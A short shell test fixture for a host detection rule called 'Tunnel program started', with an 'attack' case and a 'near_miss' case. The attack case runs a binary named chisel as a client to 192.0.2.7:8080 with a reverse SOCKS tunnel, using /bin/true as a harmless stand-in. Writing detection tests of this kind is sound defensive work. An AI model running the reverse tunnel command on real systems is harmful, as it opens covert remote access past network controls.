# rule: Tunnel program started
# where: host
attack() {
    ln -s /bin/true chisel
    ./chisel client 192.0.2.7:8080 R:socks
}
near_miss() {
    ln -s /bin/true tool
    ./tool client 192.0.2.7:8080 R:chisel
}
